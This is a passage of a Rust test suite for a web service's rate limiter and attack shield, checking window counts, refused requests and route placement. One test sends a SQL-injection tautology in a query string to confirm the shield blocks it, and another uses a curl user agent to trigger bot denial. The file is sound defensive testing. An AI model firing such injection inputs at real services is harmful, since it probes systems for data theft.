    let token = app.token(ALICE, darasa_tests::fixtures::FREE);
    let job = darasa_tests::fixtures::create_job(setup, &token).await;
    let start = format!("/api/job-infos/{job}/interviews");
    let routes = ["/api/hume/access-token", start.as_str()];
    let send = |ip: &'static str, path: &str| {
        let request = Request::post(path)
            .header("authorization", format!("Bearer {token}"))
            .body(Body::empty())
            .expect("a request");
        app.send(from(ip, request, &[]))
    };
    for (path, status) in routes.iter().zip([StatusCode::OK, StatusCode::CREATED]) {
        watched.arm();
        let response = send("198.51.100.60", path).await;
        assert_eq!(response.status, status, "{path}: {}", response.text());
        let log = watched.disarm();
        assert!(log.read_during_count, "{path}: no read went out while the windows were counted");
        assert!(!log.writes.is_empty(), "{path}: an allowed request takes a token");
    }

    let refused =
        |response: &TestResponse| response.assert_problem(StatusCode::TOO_MANY_REQUESTS, "RATE_LIMIT");
    watching.each_refused(&routes, |path| send("198.51.100.61", path), refused).await;
}

/// An app with live rules over a `Watched` table, and another over the same table without the
/// layer or the watch, to write what a test starts from.
struct Watching {
    app: TestApp,
    table: Arc<Watched>,
    setup: TestApp,
    protection: Arc<Protection>,
    _dir: Option<tempfile::TempDir>,
}

impl Watching {
    async fn start(store: Store, with: impl FnOnce(TestAppBuilder) -> TestAppBuilder) -> Self {
        let (table, dir) = darasa_tests::app::table(store).await;
        let table = Arc::new(Watched::new(table));
        let protection = rules(live());
        let app = with(TestApp::builder(store)).table(table.clone()).shared_protection(protection.clone());
        let setup = TestApp::builder(store).table(table.inner.clone()).build().await;
        Self { app: app.build().await, table, setup, protection, _dir: dir }
    }

    /// Fills Alice's per-user window, then checks that each request `send` makes for `paths` is
    /// refused as `refused` expects, having read while counted and written nothing.
    async fn each_refused<'p, Sent: std::future::Future<Output = TestResponse>>(
        &self,
        paths: &[&'p str],
        send: impl Fn(&'p str) -> Sent,
        refused: impl Fn(&TestResponse),
    ) {
        let start = window_start(&self.protection);
        let user = Subject::new(darasa::users::partition(ALICE), darasa::protect::USER_WINDOW);
        seed_window(&self.app, &user, json!({ format!("count#{start}"): 100 })).await;
        for path in paths {
            self.table.arm();
            refused(&send(path).await);
            let log = self.table.disarm();
            assert!(log.read_during_count, "{path}: it read while counted");
            assert_eq!(log.writes, Vec::<String>::new(), "{path}: a refused request writes nothing");
        }
    }
}

/// A table that counts the calls to its counters and notes, while armed, whether a read of the
/// route's own items started while a window was being counted (each count waits for one, 2 s at
/// most), and which items were written outside the windows.
struct Watched {
    inner: darasa::store::SharedTable,
    counters: WatchedCounters,
}

struct WatchedCounters {
    inner: darasa::store::SharedTable,
    state: Arc<WatchState>,
}

#[derive(Default)]
struct WatchState {
    /// Calls to the counters, armed or not.
    counter_calls: AtomicUsize,
    armed: std::sync::atomic::AtomicBool,
    read_started: tokio::sync::Notify,
    log: std::sync::Mutex<WatchLog>,
}

#[derive(Debug, Default)]
struct WatchLog {
    counting: usize,
    read_during_count: bool,
    writes: Vec<String>,
}

impl Watched {
    fn new(inner: darasa::store::SharedTable) -> Self {
        let state = Arc::new(WatchState::default());
        Self { counters: WatchedCounters { inner: inner.clone(), state }, inner }
    }

    fn state(&self) -> &WatchState {
        &self.counters.state
    }

    fn counter_calls(&self) -> usize {
        self.state().counter_calls.load(Ordering::SeqCst)
    }

    fn arm(&self) {
        *self.state().log.lock().expect("the log") = WatchLog::default();
        self.state().armed.store(true, Ordering::SeqCst);
    }

    fn disarm(&self) -> WatchLog {
        self.state().armed.store(false, Ordering::SeqCst);
        std::mem::take(&mut *self.state().log.lock().expect("the log"))
    }

    fn read(&self) {
        let state = self.state();
        if state.armed.load(Ordering::SeqCst) {
            let mut log = state.log.lock().expect("the log");
            log.read_during_count |= log.counting > 0;
            state.read_started.notify_waiters();
        }
    }

    fn wrote(&self, key: String) {
        if self.state().armed.load(Ordering::SeqCst) {
            self.state().log.lock().expect("the log").writes.push(key);
        }
    }
}

#[async_trait::async_trait]
impl Table for Watched {
    async fn get(&self, key: &Key) -> StoreResult<Option<Item>> {
        self.read();
        self.inner.get(key).await
    }
    async fn put(&self, item: Item, condition: Option<Condition>) -> StoreResult<()> {
        self.wrote(format!("{:?}", Key::of(&item)));
        self.inner.put(item, condition).await
    }
    async fn update(&self, key: &Key, update: Update, condition: Option<Condition>) -> StoreResult<Item> {
        self.wrote(format!("{key:?}"));
        self.inner.update(key, update, condition).await
    }
    async fn delete(&self, key: &Key, condition: Option<Condition>) -> StoreResult<()> {
        self.wrote(format!("{key:?}"));
        self.inner.delete(key, condition).await
    }
    async fn query(&self, query: &Query) -> StoreResult<Page> {
        self.read();
        self.inner.query(query).await
    }
    async fn transact(&self, writes: Vec<Write>) -> StoreResult<()> {
        self.wrote(format!("a transaction of {}", writes.len()));
        self.inner.transact(writes).await
    }
    fn counters(&self) -> &dyn Table {
        &self.counters
    }
}

impl WatchedCounters {
    fn called(&self) -> &dyn Table {
        self.state.counter_calls.fetch_add(1, Ordering::SeqCst);
        self.inner.counters()
    }
}

#[async_trait::async_trait]
impl Table for WatchedCounters {
    async fn get(&self, key: &Key) -> StoreResult<Option<Item>> {
        self.called().get(key).await
    }
    async fn put(&self, item: Item, condition: Option<Condition>) -> StoreResult<()> {
        self.called().put(item, condition).await
    }
    async fn update(&self, key: &Key, update: Update, condition: Option<Condition>) -> StoreResult<Item> {
        if self.state.armed.load(Ordering::SeqCst) {
            let read = self.state.read_started.notified();
            self.state.log.lock().expect("the log").counting += 1;
            // A read beside the count starts within this wait; one that waits for the count
            // never comes, and the count goes on after the bound.
            let _ = tokio::time::timeout(std::time::Duration::from_secs(2), read).await;
            self.state.log.lock().expect("the log").counting -= 1;
        }
        self.called().update(key, update, condition).await
    }
    async fn delete(&self, key: &Key, condition: Option<Condition>) -> StoreResult<()> {
        self.called().delete(key, condition).await
    }
    async fn query(&self, query: &Query) -> StoreResult<Page> {
        self.called().query(query).await
    }
    async fn transact(&self, writes: Vec<Write>) -> StoreResult<()> {
        self.called().transact(writes).await
    }
    fn counters(&self) -> &dyn Table {
        self
    }
}

/// A rule for the limiter's own tests: 10 a minute.
const TEN_A_MINUTE: SlidingWindow =
    SlidingWindow { name: "t", limit: 10, window: std::time::Duration::from_secs(60) };

/// A cold start's first requests can come while the rules are still being built; they are
/// inspected beside their count then, and one the shield or the bot rules refuse gives its counts
/// back (a shield hit is still recorded), as one refused once the rules are built never takes them.
async fn a_request_refused_while_the_rules_are_built_leaves_no_count(store: Store) {
    let protection = rules(live());
    let app = TestApp::builder(store).shared_protection(protection.clone()).build().await;
    let token = app.token(ALICE, &[]);
    let start = window_start(&protection);
    let (count, hits) = (format!("count#{start}"), format!("shieldHits#{start}"));
    let ip = |address: &str| Subject::new(format!("CLIENT#{address}"), darasa::protect::IP_WINDOW);
    let user = Subject::new(darasa::users::partition(ALICE), darasa::protect::USER_WINDOW);

    // An attack on a spending route: both its windows were counted beside the shield.
    assert!(!protection.rules_built(true, true), "nothing has built the rules yet");
    let body = json!({"jobInfoId": Uuid::new_v4().to_string(), "difficulty": "easy"});
    let attack = request(
        Method::POST,
        "/api/ai/questions/generate-question?id=1%20OR%201%3D1",
        Some(&token),
        Some(body),
        &[],
    );
    let refused = app.send(from("198.51.100.7", attack, &[])).await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN, "{}", refused.text());
    assert_eq!(number(&app, &ip("198.51.100.7"), &count).await, 0);
    assert_eq!(number(&app, &ip("198.51.100.7"), &hits).await, 1);
    assert_eq!(number(&app, &user, &count).await, 0);

    // A bot on a route that reads while counted, at another cold start on the same table.
    let protection = rules(live());
    let other =
        TestApp::builder(store).table(app.table.clone()).shared_protection(protection.clone()).build().await;
    assert!(!protection.rules_built(true, true));
    get(&other, "198.51.100.8", "/api/job-infos", Some(&token), &[("user-agent", "curl/8.5.0")])
        .await
        .assert_problem(StatusCode::FORBIDDEN, "BOT_DENIED");
    assert_eq!(number(&other, &ip("198.51.100.8"), &count).await, 0);

    // Built now: a clean request is counted, once.
    assert!(protection.rules_built(true, true));
    assert_eq!(get(&other, "198.51.100.8", "/api/job-infos", Some(&token), &[]).await.status, StatusCode::OK);
    assert_eq!(number(&other, &ip("198.51.100.8"), &count).await, 1);
}

/// The start of the window the rules' (stopped) clock counts in (ms).
fn window_start(protection: &Protection) -> i64 {
    let now = protection.clock.now_ms();
    now - now.rem_euclid(60_000)
}

/// The current minute's start and one millisecond into it (ms).
fn this_window() -> (i64, i64) {
    let now = time::OffsetDateTime::now_utc().unix_timestamp() * 1000;
    let start = now - now.rem_euclid(60_000);
    (start, start + 1)
}

/// The window attributes `subject`'s item holds, sorted.
async fn window_names(app: &TestApp, subject: &Subject) -> Vec<String> {
    let item = window_item(app, subject).await;
    let mut names: Vec<String> = item
        .keys()
        .filter(|name| name.starts_with("count#") || name.starts_with("shieldHits#"))
        .cloned()
        .collect();
    names.sort();
    names
}

/// Every GET route is on one side: it runs while its windows are counted (its reads and the count
/// go out at once; a refused request's answer is dropped), or after them. A new GET route fails
/// here until it is placed. Of the routes that change things, only the spending routes that wait
/// at the gate before writing run while counted.
#[test]
fn each_get_route_runs_beside_the_count_or_after_it() {
    use darasa::protect::layer::{reads_then_gate, reads_while_counted};
    // Reports the windows' outcome; reads a whole partition; calls Hume.
    let after = ["/api/arcjet", "/api/me/export", "/api/interviews/{interviewId}/transcript"];
    let gated = [
        "/api/ai/questions/generate-question",
        "/api/ai/questions/generate-feedback",
        "/api/ai/resumes/analyze",
        "/api/job-infos/{jobInfoId}/interviews",
        "/api/hume/access-token",
        "/api/webhooks/clerk",
    ];
    for (method, path) in darasa::openapi::routes() {
        let method: Method = method.to_uppercase().parse().unwrap();
        let beside = reads_while_counted(&method, Some(path));
        if method == Method::GET {
            assert_eq!(beside, !after.contains(&path), "GET {path}");
            assert!(!reads_then_gate(&method, Some(path)), "GET {path}");
        } else {
            assert!(!beside, "{method} {path} changes things: it must wait for the count");
            assert_eq!(reads_then_gate(&method, Some(path)), gated.contains(&path), "{method} {path}");
        }
    }
    assert!(!reads_while_counted(&Method::GET, None), "an unrouted request waits");
    assert!(!reads_then_gate(&Method::POST, None), "an unrouted request waits");
}
